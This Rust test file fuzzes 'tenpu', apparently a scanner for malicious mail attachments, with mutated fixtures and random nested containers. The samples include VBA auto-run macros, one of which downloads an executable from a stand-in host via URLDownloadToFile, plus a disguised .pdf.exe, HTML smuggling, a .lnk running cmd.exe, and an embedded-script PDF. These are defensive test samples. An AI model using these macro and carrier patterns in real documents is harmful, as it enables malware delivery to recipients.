//! Random and mutated inputs through `tenpu::check` never panic and always return a report
//! that obeys the invariants of [`invariants`]: at least one object, the verdict the policy
//! gives for its findings, never `no_findings` when something was left uninspected, and every
//! limit finding (`archive.limit_exceeded`, `check.limit_exceeded`) on an incomplete report.
//!
//! Seeds: every fixture of `tests/common/fixtures.rs`, plus a sample of `../shared/corpus` when
//! present. Mutations: bit flips, byte overwrites with boundary values, truncation, duplication
//! and removal of ranges, splices between seeds. A fixed-seed xorshift generator keeps the run
//! reproducible; set `TENPU_MUTATIONS` to run more.
//!
//! Structure-aware inputs ([`composed_inputs_keep_the_invariants`]): random trees of real
//! containers built with the fixture builders of `tests/common` (mails, .msg, plain, stored,
//! ZipCrypto and AES ZIPs, ISO images, OneNote, RTF, PDF, HTML around macro documents, XLM
//! sheets, shortcuts and executables), with random small limits, some of them mutated after
//! composition; `TENPU_COMPOSED` sets how many (default 300).

mod common;

use std::panic::{catch_unwind, AssertUnwindSafe};

use common::{carriergen, docgen, mailgen, msggen, olegen, zipgen};
use tenpu::{Limits, Options, Report, Verdict};

/// The invariants every report keeps, whatever the input: empty when they hold.
fn invariants(r: &Report) -> Vec<String> {
    let mut bad = Vec::new();
    if r.objects.is_empty() {
        bad.push("no objects recorded".to_string());
    }
    if !r.complete && r.verdict == Verdict::NoFindings {
        bad.push("incomplete but no_findings".into());
    }
    if r.verdict != tenpu::policy::verdict(&r.findings, r.complete) {
        bad.push(format!("verdict {:?} is not the policy's", r.verdict));
    }
    for f in &r.findings {
        if f.severity != tenpu::policy::severity(f.code, &f.tags) {
            bad.push(format!("{}: severity not the policy's", f.code));
        }
        if matches!(f.code, "archive.limit_exceeded" | "check.limit_exceeded") && r.complete {
            bad.push(format!("{} ({}) but complete", f.code, f.evidence));
        }
    }
    bad
}

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }
    fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.next() % n as u64) as usize
        }
    }
}

const BOUNDARY: &[u8] = &[0x00, 0x01, 0x7F, 0x80, 0xFE, 0xFF];

fn mutate(rng: &mut Rng, seed: &[u8], other: &[u8]) -> Vec<u8> {
    let mut v = seed.to_vec();
    let rounds = 1 + rng.below(4);
    for _ in 0..rounds {
        if v.is_empty() {
            v.push(rng.next() as u8);
        }
        let len = v.len();
        match rng.below(7) {
            0 => {
                let i = rng.below(len);
                v[i] ^= 1 << rng.below(8);
            }
            1 => {
                let i = rng.below(len);
                v[i] = BOUNDARY[rng.below(BOUNDARY.len())];
            }
            2 => {
                // A 32-bit field set to a huge or boundary value (sizes, counts, offsets).
                let i = rng.below(len);
                let val: u32 = [0, 1, 0x7FFF_FFFF, 0xFFFF_FFFF, 0x8000_0000, 0xFFFF][rng.below(6)];
                for (k, b) in val.to_le_bytes().iter().enumerate() {
                    if let Some(x) = v.get_mut(i + k) {
                        *x = *b;
                    }
                }
            }
            3 => v.truncate(rng.below(len)),
            4 => {
                let a = rng.below(len);
                let b = (a + rng.below(256)).min(len);
                let chunk = v[a..b].to_vec();
                let at = rng.below(v.len());
                v.splice(at..at, chunk);
            }
            5 => {
                let a = rng.below(len);
                let b = (a + rng.below(256)).min(len);
                v.drain(a..b);
            }
            _ => {
                if !other.is_empty() {
                    let a = rng.below(other.len());
                    let b = (a + rng.below(4096)).min(other.len());
                    let at = rng.below(v.len());
                    v.splice(at..at, other[a..b].iter().copied());
                }
            }
        }
    }
    v
}

fn seeds() -> Vec<(String, Vec<u8>)> {
    let mut s: Vec<(String, Vec<u8>)> = common::fixtures::all()
        .into_iter()
        .map(|f| (f.file.to_string(), f.bytes))
        .collect();
    if let Some(dir) = common::corpus_dir() {
        // A few small files of each source: enough to reach every parser with real structure.
        let mut picked = 0;
        for source in std::fs::read_dir(&dir).unwrap().flatten() {
            let small = common::files_under(&source.path())
                .into_iter()
                .filter(|p| std::fs::metadata(p).is_ok_and(|m| m.len() < 200_000))
                .filter_map(|p| std::fs::read(&p).ok().map(|b| (p, b)))
                .take(6);
            for (p, b) in small {
                s.push((p.file_name().unwrap().to_string_lossy().to_string(), b));
                picked += 1;
            }
        }
        println!("robustness: {picked} corpus seeds");
    } else {
        println!("robustness: ../shared/corpus absent, fixtures only");
    }
    s
}

#[test]
fn mutated_inputs_never_panic_and_verdicts_stay_honest() {
    let n: usize = std::env::var("TENPU_MUTATIONS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(10_000);
    let seeds = seeds();
    // Small budgets too, so the limit paths are exercised.
    let small = Options {
        passwords: vec!["Kaigi2026".into(), "infected".into()],
        limits: Limits {
            max_depth: 3,
            max_entries: 20,
            max_total_inflated: 1 << 20,
            max_entry_inflated: 1 << 19,
            ..Limits::default()
        },
        ..Options::default()
    };
    let default = Options::default();
    let mut rng = Rng(0x7e4b_0001_dead_beef);
    let mut failures = Vec::new();
    for i in 0..n {
        let (name, seed) = &seeds[rng.below(seeds.len())];
        let other = &seeds[rng.below(seeds.len())].1;
        let input = mutate(&mut rng, seed, other);
        let opts = if i % 2 == 0 { &default } else { &small };
        match catch_unwind(AssertUnwindSafe(|| tenpu::check(&input, name, opts))) {
            Ok(r) => {
                for b in invariants(&r) {
                    failures.push(format!("#{i} {name}: {b}"));
                }
            }
            Err(_) => failures.push(format!("#{i} {name}: panicked (len {})", input.len())),
        }
    }
    println!("robustness: {n} mutated inputs from {} seeds", seeds.len());
    assert!(
        failures.is_empty(),
        "{} failures:\n  {}",
        failures.len(),
        failures.join("\n  ")
    );
}

#[test]
fn random_bytes_with_every_magic() {
    let magics: &[&[u8]] = &[
        b"PK\x03\x04",
        b"PK\x05\x06",
        &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1],
        b"MZ",
        b"%PDF-1.7\n",
        b"{\\rtf1",
        b"From: a@b\r\nSubject: x\r\n\r\n",
        b"Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\n",
    ];
    let mut rng = Rng(42);
    for i in 0..2000 {
        let magic = magics[i % magics.len()];
        let mut v = magic.to_vec();
        let len = rng.below(2048);
        v.extend((0..len).map(|_| rng.next() as u8));
        let r = catch_unwind(AssertUnwindSafe(|| {
            tenpu::check(&v, "random.bin", &Options::default())
        }));
        let Ok(r) = r else {
            panic!("panic on random input #{i} with magic {magic:?}");
        };
        let bad = invariants(&r);
        assert!(
            bad.is_empty(),
            "random input #{i} with magic {magic:?}: {bad:?}"
        );
    }
}

// ---- structure-aware inputs ----------------------------------------------------------------------

const PASSWORD: &str = "Kaigi2026";

const MACROS: &[&str] = &[
    "Sub AutoOpen()\r\n  Shell \"cmd /c calc\", vbHide\r\nEnd Sub\r\n",
    "Sub Document_Open()\r\n  x = CreateObject(\"WScript.Shell\")\r\nEnd Sub\r\n",
    "Sub Workbook_Open()\r\n  URLDownloadToFile 0, \"http://x.example/a\", \"a.exe\", 0, 0\r\nEnd Sub\r\n",
    "Sub Hello()\r\n  MsgBox \"こんにちは\"\r\nEnd Sub\r\n",
];

/// A random file: a leaf document, or (while `depth` allows) a container of random files.
/// Returns its name and bytes.
fn compose(rng: &mut Rng, depth: usize) -> (String, Vec<u8>) {
    let leaf = depth == 0 || rng.below(3) == 0;
    if leaf {
        let m = MACROS[rng.below(MACROS.len())];
        return match rng.below(12) {
            0 => (
                "メモ.txt".into(),
                "会議は15時からです。\n"
                    .repeat(1 + rng.below(50))
                    .into_bytes(),
            ),
            1 => ("請求書.pdf.exe".into(), mailgen::tiny_pe()),
            2 => ("見積書.doc".into(), olegen::vba_doc(&[("Module1", m)])),
            3 => ("集計.xls".into(), olegen::vba_xls(&[("Module1", m)])),
            4 => ("資料.docm".into(), olegen::docm(&[("NewMacros", m)])),
            5 => (
                "売上.xlsm".into(),
                olegen::xlsm_macrosheet(if rng.below(2) == 0 {
                    "hidden"
                } else {
                    "veryHidden"
                }),
            ),
            6 => (
                "案内.rtf".into(),
                docgen::rtf_with_package("a.vbs", b"WScript.Echo 1"),
            ),
            7 => (
                "報告.pdf".into(),
                docgen::pdf_with(
                    rng.below(2) == 0,
                    rng.below(2) == 0,
                    Some(("a.js", b"app.alert(1)")),
                ),
            ),
            8 => (
                "通知.html".into(),
                docgen::html_smuggling(&mailgen::tiny_pe()),
            ),
            9 => (
                "資料.lnk".into(),
                carriergen::lnk("C:\\Windows\\System32\\cmd.exe", "/c calc"),
            ),
            10 => ("暗号.docx".into(), olegen::encrypted_ooxml()),
            _ => (
                "空.bin".into(),
                (0..rng.below(300)).map(|_| rng.next() as u8).collect(),
            ),
        };
    }
    let n = 1 + rng.below(3);
    // Distinct names (archive writers refuse duplicates).
    let children: Vec<(String, Vec<u8>)> = (0..n)
        .map(|k| {
            let (name, bytes) = compose(rng, depth - 1);
            (format!("{k}-{name}"), bytes)
        })
        .collect();
    let refs: Vec<(&str, &[u8])> = children
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_slice()))
        .collect();
    match rng.below(8) {
        0 => ("資料.zip".into(), zipgen::plain(&refs)),
        1 => ("資料.zip".into(), zipgen::stored(&refs)),
        2 => ("資料.zip".into(), zipgen::zip_crypto(&refs, PASSWORD)),
        3 => ("資料.zip".into(), zipgen::aes256(&refs, PASSWORD)),
        4 => ("image.iso".into(), carriergen::iso(&refs)),
        5 => {
            let files: Vec<&[u8]> = children.iter().map(|(_, b)| b.as_slice()).collect();
            ("notes.one".into(), carriergen::onenote_with(&files))
        }
        6 => {
            let fields = msggen::MsgFields {
                sender_name: Some("田中 太郎 <tanaka@partner.co.jp>".into()),
                sender_smtp: Some("tanaka@mail-delivery.example.net".into()),
                subject: Some("Re: 会議資料の件".into()),
                body: Some(format!("資料をお送りします。\nパスワード: {PASSWORD}\n")),
                ..Default::default()
            };
            ("会議.msg".into(), msggen::msg(&fields, &refs))
        }
        _ => {
            let body = if rng.below(2) == 0 {
                format!("資料をお送りします。\nパスワード: {PASSWORD}\n")
            } else {
                "資料をお送りします。\n".to_string()
            };
            let mail = mailgen::eml(
                &[
                    ("From", "\"田中 太郎\" <tanaka@partner.co.jp>"),
                    ("To", "sato@example.co.jp"),
                    ("Subject", "Re: 会議資料の件"),
                    ("Date", "Mon, 2 Nov 2026 10:00:00 +0900"),
                    ("Message-ID", "<c1@partner.co.jp>"),
                ],
                &body,
                &refs,
            );
            ("転送.eml".into(), mail)
        }
    }
}

fn random_limits(rng: &mut Rng) -> Limits {
    let d = Limits::default();
    if rng.below(2) == 0 {
        return d;
    }
    Limits {
        max_depth: 1 + rng.below(5),
        max_entries: 1 + rng.below(12),
        max_total_inflated: 1 << (8 + rng.below(14)),
        max_entry_inflated: 1 << (8 + rng.below(14)),
        max_ratio: 2 + rng.below(2000) as u64,
        max_password_attempts: rng.below(3),
        work: 1 << (10 + rng.below(20)),
    }
}

#[test]
fn composed_inputs_keep_the_invariants() {
    let n: usize = std::env::var("TENPU_COMPOSED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(300);
    let mut rng = Rng(0x5eed_c0de_0000_0005);
    let mut failures = Vec::new();
    let mut limited = 0usize;
    for i in 0..n {
        let (name, mut input) = compose(&mut rng, 3);
        if rng.below(4) == 0 {
            let other = input.clone();
            input = mutate(&mut rng, &input, &other);
        }
        let opts = Options {
            passwords: if rng.below(2) == 0 {
                vec![PASSWORD.into()]
            } else {
                Vec::new()
            },
            limits: random_limits(&mut rng),
            ..Options::default()
        };
        match catch_unwind(AssertUnwindSafe(|| tenpu::check(&input, &name, &opts))) {
            Ok(r) => {
                if r.findings
                    .iter()
                    .any(|f| f.code.ends_with("limit_exceeded"))
                {
                    limited += 1;
                }
                for b in invariants(&r) {
                    failures.push(format!(
                        "#{i} {name} ({} bytes, {:?}): {b}",
                        input.len(),
                        opts.limits
                    ));
                }
            }
            Err(_) => failures.push(format!("#{i} {name}: panicked (len {})", input.len())),
        }
    }
    println!("robustness: {n} composed inputs, {limited} hit a limit");
    assert!(limited > 0, "the random limits never bit");
    assert!(
        failures.is_empty(),
        "{} failures:\n  {}",
        failures.len(),
        failures.join("\n  ")
    );
}
